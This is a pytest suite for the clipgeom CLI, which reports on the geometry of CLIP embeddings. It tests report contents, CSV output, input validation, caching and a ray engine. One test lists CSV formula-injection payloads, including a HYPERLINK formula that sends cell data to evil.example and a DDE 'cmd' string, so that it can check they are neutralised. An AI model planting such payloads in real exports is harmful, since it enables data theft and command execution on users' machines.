"""The report contract and the CLI, end to end on imported arrays."""

import json
import subprocess
import sys

import numpy as np
import pytest

from clipgeom import synthetic
from clipgeom.__main__ import main

from brute import clip_loss, conformity as brute_conformity

CONTRACT = {
    "top": ["schema", "dataset", "n_images", "n_texts", "n_pairs", "dim", "normalized_input",
            "temperature", "separability", "image", "text", "loss", "alpha_sweep",
            "conformity_kl", "modality_gap"],
    "separability": ["per_feature", "top", "n_above_1", "svm_top2", "linear_accuracy"],
    "modality": ["mean_norm", "norm_var", "rms_norm", "rms_rel_error", "shell_radius",
                 "shell_std", "mean_over_sigma", "variance", "odd", "top_offset_features",
                 "conformity", "isotropy"],
    "loss": ["total", "alignment", "uniformity", "accuracy_i2t", "accuracy_t2i",
             "loss_correct", "loss_misclassified"],
}


@pytest.fixture
def imported(tmp_path, clipgeom_home, capsys):
    data = synthetic.two_shells(300, 24, seed=3)
    np.save(tmp_path / "img.npy", data.image)
    np.save(tmp_path / "txt.npy", data.text)
    (tmp_path / "caps.txt").write_text("".join(f"caption {k}\n" for k in range(300)))
    rc = main(["import", "demo2", "--image-emb", str(tmp_path / "img.npy"),
               "--text-emb", str(tmp_path / "txt.npy"), "--captions", str(tmp_path / "caps.txt")])
    assert rc == 0
    capsys.readouterr()
    return data


def test_report_json_contract_and_values(imported, capsys):
    rc = main(["report", "demo2", "--json", "--quiet", "--temperature", "0.05"])
    assert rc == 0
    rep = json.loads(capsys.readouterr().out)
    for k in CONTRACT["top"]:
        assert k in rep, k
    for k in CONTRACT["separability"]:
        assert k in rep["separability"]
    for mod in ("image", "text"):
        for k in CONTRACT["modality"]:
            assert k in rep[mod], (mod, k)
        for k in ("mean", "a", "b", "pearson", "theory_a"):
            assert k in rep[mod]["conformity"]
        assert set(rep[mod]["isotropy"]) >= {"I1", "I2"}
    for k in CONTRACT["loss"]:
        assert k in rep["loss"]
    assert rep["schema"] == "clipgeom.report/1"
    assert (rep["n_images"], rep["n_texts"], rep["n_pairs"], rep["dim"]) == (300, 300, 300, 24)
    assert rep["normalized_input"] is False
    assert len(rep["separability"]["per_feature"]) == 24
    assert len(rep["separability"]["top"]) == 10
    # values against independent computations
    img = imported.image.astype(np.float64)
    txt = imported.text.astype(np.float64)
    sep = np.abs(img.mean(0) - txt.mean(0)) / np.sqrt(img.var(0) + txt.var(0))
    assert rep["separability"]["n_above_1"] == int(np.sum(sep > 1))
    assert rep["separability"]["top"][0]["feature"] == int(np.argmax(sep))
    ref = clip_loss(img, txt, 0.05)
    assert rep["loss"]["total"] == pytest.approx(ref["total"], rel=1e-5)
    assert rep["loss"]["accuracy_i2t"] == pytest.approx(ref["acc_i2t"])
    assert rep["image"]["conformity"]["mean"] == pytest.approx(brute_conformity(img).mean(),
                                                               abs=1e-6)
    cn = np.linalg.norm(img - img.mean(0), axis=1)
    assert rep["image"]["mean_norm"] == pytest.approx(cn.mean(), rel=1e-6)
    assert rep["image"]["norm_var"] == pytest.approx(cn.var(), rel=1e-5)
    assert rep["modality_gap"]["centroid_distance"] == pytest.approx(
        np.linalg.norm(img.mean(0) - txt.mean(0)), rel=1e-6)
    sw = rep["alpha_sweep"]["both"]
    assert sw["alpha"] == pytest.approx(list(np.round(np.arange(-10, 11) / 10, 10)))
    k = 13   # alpha = 0.3
    assert sw["total"][k] == pytest.approx(clip_loss(img, txt, 0.05, ai=0.3, at=0.3)["total"],
                                           rel=1e-5)
    assert sw["argmin"] == sw["alpha"][int(np.argmin(sw["total"]))]
    assert rep["conformity_kl"]["at_zero"] == rep["conformity_kl"]["kl"][10]


def test_report_text_summary_and_subprocess_entry(imported, clipgeom_home):
    out = subprocess.run([sys.executable, "-m", "clipgeom", "report", "demo2", "--quiet"],
                         capture_output=True, text=True, env=_env(clipgeom_home))
    assert out.returncode == 0, out.stderr
    assert "separability:" in out.stdout and "alpha-shift argmin" in out.stdout


def _env(home):
    import os
    from pathlib import Path
    env = dict(os.environ, CLIPGEOM_HOME=str(home))
    env["PYTHONPATH"] = str(Path(__file__).resolve().parent.parent)
    return env


def test_conformity_csv(imported, capsys):
    assert main(["conformity", "demo2", "--modality", "text", "--csv"]) == 0
    lines = capsys.readouterr().out.strip().splitlines()
    assert lines[0] == "id,exact,estimated,cos_to_mean,caption"
    assert len(lines) == 301
    first = lines[1].split(",")
    assert first[4] == "caption 0"
    assert float(first[1]) == pytest.approx(brute_conformity(imported.text)[0], abs=1e-5)


def test_unpaired_dataset_reports_null_loss_with_reason(tmp_path, clipgeom_home, capsys, rng):
    np.save(tmp_path / "i.npy", rng.standard_normal((50, 8)).astype(np.float32) + 1)
    np.save(tmp_path / "t.npy", rng.standard_normal((30, 8)).astype(np.float32) - 1)
    assert main(["import", "unpaired", "--image-emb", str(tmp_path / "i.npy"),
                 "--text-emb", str(tmp_path / "t.npy")]) == 0
    capsys.readouterr()
    assert main(["report", "unpaired", "--json", "--quiet"]) == 0
    rep = json.loads(capsys.readouterr().out)
    assert rep["n_pairs"] == 0
    assert rep["loss"] is None and rep["alpha_sweep"] is None
    assert "pair" in rep["unavailable"]["loss"]
    assert rep["image"]["conformity"]["pearson"] is not None


def test_normalised_input_is_flagged(tmp_path, clipgeom_home, capsys, rng):
    x = rng.standard_normal((40, 8))
    x /= np.linalg.norm(x, axis=1, keepdims=True)
    np.save(tmp_path / "i.npy", x.astype(np.float32))
    np.save(tmp_path / "t.npy", (x + 0.1).astype(np.float32))
    assert main(["import", "normed", "--image-emb", str(tmp_path / "i.npy"),
                 "--text-emb", str(tmp_path / "t.npy")]) == 0
    assert "already L2-normalised" in capsys.readouterr().out
    assert main(["report", "normed", "--json", "--quiet"]) == 0
    rep = json.loads(capsys.readouterr().out)
    assert rep["normalized_input"] is True
    assert rep["normalized_input_by_modality"] == {"image": True, "text": False}
    assert "sphere" in rep["unavailable"]["thin_shell"]


@pytest.mark.parametrize("case", ["nan", "width", "pickle", "one_d", "missing", "captions"])
def test_cli_bad_input_exits_nonzero_with_message(case, tmp_path, clipgeom_home, capsys, rng):
    img = rng.standard_normal((20, 6)).astype(np.float32)
    txt = rng.standard_normal((20, 6)).astype(np.float32)
    extra = []
    if case == "nan":
        img[7, 2] = np.nan
    elif case == "width":
        txt = txt[:, :5]
    elif case == "one_d":
        img = img[:, 0]
    elif case == "captions":
        (tmp_path / "c.txt").write_text("only\ntwo\n")
        extra = ["--captions", str(tmp_path / "c.txt")]
    np.save(tmp_path / "i.npy", img)
    if case == "pickle":
        np.save(tmp_path / "t.npy", np.array([{"a": 1}] * 20, dtype=object), allow_pickle=True)
    else:
        np.save(tmp_path / "t.npy", txt)
    args = ["import", "bad", "--image-emb", str(tmp_path / "i.npy"),
            "--text-emb", str(tmp_path / ("nope.npy" if case == "missing" else "t.npy"))] + extra
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("clipgeom: error:")
    expected = {"nan": "row 7", "width": "features", "pickle": "pickle",
                "one_d": "2-D", "missing": "nope.npy", "captions": "c.txt"}[case]
    assert expected in err
    assert not (clipgeom_home / "datasets" / "bad").exists()   # nothing half-written


def test_report_on_missing_dataset(clipgeom_home, capsys):
    assert main(["report", "nothing-here", "--json"]) == 2
    assert "nothing-here" in capsys.readouterr().err


def test_synthetic_command_and_list(clipgeom_home, capsys):
    assert main(["synthetic", "syn", "--n", "100", "--dim", "8"]) == 0
    assert "SYNTHETIC" in capsys.readouterr().out
    assert main(["list", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["name"] for r in rows] == ["syn"]
    assert main(["synthetic", "syn", "--n", "100", "--dim", "8"]) == 2   # exists, no overwrite
    assert "already exists" in capsys.readouterr().err


def test_stored_report_is_computed_once_and_shipped_reports_are_read(clipgeom_home, tmp_path,
                                                                    monkeypatch):
    import shutil

    from clipgeom import report, store

    d = synthetic.two_shells(300, 12, seed=4)
    ds = store.create_dataset("kept", d.image, d.text)
    first = report.stored_report(ds, temperature=0.05, max_pairs=200)
    assert first == json.loads(json.dumps(report.report_for_dataset(
        ds, temperature=0.05, max_pairs=200)))
    calls = []
    real = report.report_for_dataset
    monkeypatch.setattr(report, "report_for_dataset",
                        lambda *a, **k: calls.append(k) or real(*a, **k))
    assert report.stored_report(ds, temperature=0.05, max_pairs=200) == first
    assert calls == []                                   # read back, not recomputed
    report.stored_report(ds, temperature=0.02, max_pairs=200)
    assert len(calls) == 1                               # other parameters: computed
    # a bundled (read-only) dataset reads the reports it ships in <dataset>/cache
    assets = tmp_path / "assets"
    assets.mkdir()
    monkeypatch.setattr(store, "ASSETS_DIR", assets)
    user_folder = ds.path.parent          # datasets/<name>/
    ds.close()
    shutil.move(str(ds.path), str(assets / "kept"))   # its version, as bundled
    shutil.rmtree(user_folder)
    bundled = store.open_dataset("kept")
    assert bundled.read_only
    assert report.stored_report(bundled, temperature=0.05, max_pairs=200) == first
    assert len(calls) == 1
    assert not list(bundled.cache_dir.glob("report-*.json"))   # nothing written in home
    # a damaged cached report is recomputed, not trusted
    for f in (assets / "kept" / "cache").glob("report-*.json"):
        f.write_text("{not json")
    assert report.stored_report(bundled, temperature=0.05, max_pairs=200) == first
    assert len(calls) == 2


def test_report_cli_defaults_to_the_models_own_temperature(clipgeom_home, capsys):
    from clipgeom import store

    d = synthetic.two_shells(200, 8, seed=5)
    store.create_dataset("tau", d.image, d.text, model={"name": "m", "temperature": 0.05})
    assert main(["report", "tau", "--json", "--quiet"]) == 0
    assert json.loads(capsys.readouterr().out)["temperature"] == 0.05
    assert main(["report", "tau", "--json", "--quiet", "--temperature", "0.02"]) == 0
    assert json.loads(capsys.readouterr().out)["temperature"] == 0.02


# --------------------------------------------------------------------------
# Issue 10: formulas in CSV output, `| head`
# --------------------------------------------------------------------------

HOSTILE_CAPTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                    "@SUM(A1:A9)", "-2+3", "\tleading tab", "plain caption"]


def test_conformity_csv_neutralises_formulas_but_not_negative_numbers(tmp_path, clipgeom_home,
                                                                      capsys, rng):
    import csv
    import io

    # Zero-mean Gaussian rows: mean cosines near 0, so some conformity values
    # are negative numbers, which must stay numbers.
    n = len(HOSTILE_CAPTIONS)
    img, txt = rng.normal(size=(n, 8)), rng.normal(size=(n, 8))
    np.save(tmp_path / "i.npy", img.astype(np.float32))
    np.save(tmp_path / "t.npy", txt.astype(np.float32))
    (tmp_path / "c.jsonl").write_text("".join(json.dumps({"caption": c}) + "\n"
                                              for c in HOSTILE_CAPTIONS))
    assert main(["import", "evil", "--image-emb", str(tmp_path / "i.npy"), "--text-emb",
                 str(tmp_path / "t.npy"), "--captions", str(tmp_path / "c.jsonl")]) == 0
    capsys.readouterr()
    assert main(["conformity", "evil", "--modality", "text", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["id", "exact", "estimated", "cos_to_mean", "caption"]
    body = rows[1:]
    assert [r[4] for r in body[:5]] == ["'" + c for c in HOSTILE_CAPTIONS[:5]]
    assert body[5][4] == "plain caption"
    exact = np.array([float(r[1]) for r in body])      # numbers parse as numbers
    ref = brute_conformity(txt.astype(np.float32).astype(np.float64))
    np.testing.assert_allclose(exact, ref, atol=1e-5)
    assert (exact < 0).any()                           # the case that must not be quoted
    assert all(not r[k].startswith("'") for r in body for k in (1, 2, 3))


def test_conformity_piped_into_a_reader_that_stops_exits_quietly(tmp_path, clipgeom_home):
    env = _env(clipgeom_home)
    made = subprocess.run([sys.executable, "-m", "clipgeom", "synthetic", "pipe", "--n",
                           "3000", "--dim", "16"], capture_output=True, text=True, env=env)
    assert made.returncode == 0, made.stderr
    # Like `| head -c 64`: read a few bytes, then close the pipe while the CLI
    # still has ~150 KB of CSV to write.
    proc = subprocess.Popen([sys.executable, "-m", "clipgeom", "conformity", "pipe", "--csv"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    head = proc.stdout.read(64)
    proc.stdout.close()
    err = proc.stderr.read().decode()
    rc = proc.wait(timeout=120)
    assert head.startswith(b"id,exact,estimated")
    assert "Traceback" not in err and "BrokenPipeError" not in err, err
    assert err.strip() == ""
    assert rc == 141                                   # 128 + SIGPIPE, like a killed writer
    # And through a real shell pipeline.
    sh = subprocess.run(["bash", "-c", f"{sys.executable} -m clipgeom conformity pipe --csv "
                                       "| head -n 2"], capture_output=True, text=True, env=env)
    assert sh.stdout.splitlines()[0] == "id,exact,estimated,cos_to_mean,source"
    assert len(sh.stdout.splitlines()) == 2
    assert "Traceback" not in sh.stderr and sh.stderr.strip() == ""


# --------------------------------------------------------------------------
# Issue 12: the CLI writes the stored report the dashboard reads; --engine ray
# --------------------------------------------------------------------------


def _no_recompute(monkeypatch):
    from clipgeom import report

    def refuse(*a, **k):
        raise AssertionError("recomputed instead of reading the stored report")

    monkeypatch.setattr(report, "report_for_dataset", refuse)


def test_cli_report_stores_what_the_dashboards_home_reads(clipgeom_home, capsys, monkeypatch):
    from clipgeom import report, store
    from dashboard import data

    d = synthetic.two_shells(300, 12, seed=6)
    # a learned temperature with more decimals than the dashboard's control shows
    store.create_dataset("home", d.image, d.text, model={"name": "m", "temperature": 0.0123456})
    assert main(["report", "home", "--json", "--quiet"]) == 0
    cli = json.loads(capsys.readouterr().out)
    ds = store.open_dataset("home")
    files = list(ds.cache_dir.glob("report-*.json"))
    assert len(files) == 1
    assert json.loads(files[0].read_text()) == cli
    # the dashboard's Home: its τ control's default (dashboard/ui.py clamps the
    # Loaded default to [0.001, 1]), 5,000 pairs, seed 0
    ii, tt = ds.pairs()
    loaded = data.Loaded(name="home", image=ds.image_emb, text=ds.text_emb,
                         pair_image_rows=ii, pair_text_rows=tt, fingerprint=ds.fingerprint,
                         synthetic=False, model="m", temperature=0.0123456)
    tau = min(max(loaded.default_temperature, 0.001), 1.0)
    assert tau == report.default_temperature(ds) == cli["temperature"] == 0.0123
    _no_recompute(monkeypatch)
    assert report.stored_report(ds, temperature=tau, max_pairs=5000) == cli
    # and a second CLI run reads it back too
    assert main(["report", "home", "--json", "--quiet"]) == 0
    assert json.loads(capsys.readouterr().out) == cli


def test_cli_report_recompute_replaces_the_stored_report(clipgeom_home, capsys):
    from clipgeom import store

    d = synthetic.two_shells(200, 8, seed=7)
    store.create_dataset("re", d.image, d.text)
    assert main(["report", "re", "--json", "--quiet"]) == 0
    first = json.loads(capsys.readouterr().out)
    f = next(store.open_dataset("re").cache_dir.glob("report-*.json"))
    f.write_text(json.dumps({**first, "dataset": "tampered", "n_pairs": -1}))
    assert main(["report", "re", "--json", "--quiet"]) == 0
    assert json.loads(capsys.readouterr().out)["n_pairs"] == -1        # read as stored
    assert main(["report", "re", "--json", "--quiet", "--recompute"]) == 0
    assert json.loads(capsys.readouterr().out) == first
    assert json.loads(f.read_text())["n_pairs"] == first["n_pairs"]


def _close_reports(a, b, rel=1e-9):
    """Every number equal to ``rel`` (relative), everything else equal."""
    if isinstance(a, dict):
        assert set(a) == set(b)
        for k in a:
            _close_reports(a[k], b[k], rel)
    elif isinstance(a, list):
        assert len(a) == len(b)
        for p, q in zip(a, b):
            _close_reports(p, q, rel)
    elif isinstance(a, float) and isinstance(b, float):
        assert b == pytest.approx(a, rel=rel, abs=1e-300)
    else:
        assert a == b


def test_report_engine_ray_equals_engine_local(tmp_path, clipgeom_home, capsys):
    pytest.importorskip("ray")
    from clipgeom import store

    d = synthetic.two_shells(500, 16, seed=8)
    texts_rows = np.r_[np.arange(500), np.arange(0, 500, 5)]          # 600 captions
    import pandas as pd
    texts = pd.DataFrame({"image_id": [f"img{k:05d}" for k in texts_rows]})
    txt = np.vstack([d.text, d.text[::5] + 0.01])
    store.create_dataset("r", d.image, txt, texts=texts)
    args = ["report", "r", "--json", "--quiet", "--recompute", "--block-rows", "64",
            "--max-pairs", "200"]
    assert main(args) == 0
    local = json.loads(capsys.readouterr().out)
    assert main(args + ["--engine", "ray"]) == 0         # ray.init(num_cpus=2), 8+10 blocks
    ray_rep = json.loads(capsys.readouterr().out)
    assert local["computation"].pop("engine") == "local"
    assert ray_rep["computation"].pop("engine") == "ray"
    _close_reports(local, ray_rep)
    assert local["n_texts"] == 600 and local["n_pairs"] == 500


def test_report_engine_ray_without_ray_says_how_to_install(clipgeom_home, capsys, monkeypatch):
    from clipgeom import store

    d = synthetic.two_shells(50, 8, seed=9)
    store.create_dataset("nr", d.image, d.text)
    monkeypatch.setitem(sys.modules, "ray", None)        # import ray -> ImportError
    assert main(["report", "nr", "--engine", "ray", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "clipgeom: error:" in err and "ray" in err and "--engine local" in err
    assert main(["report", "nr", "--address", "auto", "--quiet"]) == 2
    assert "--address is for --engine ray" in capsys.readouterr().err
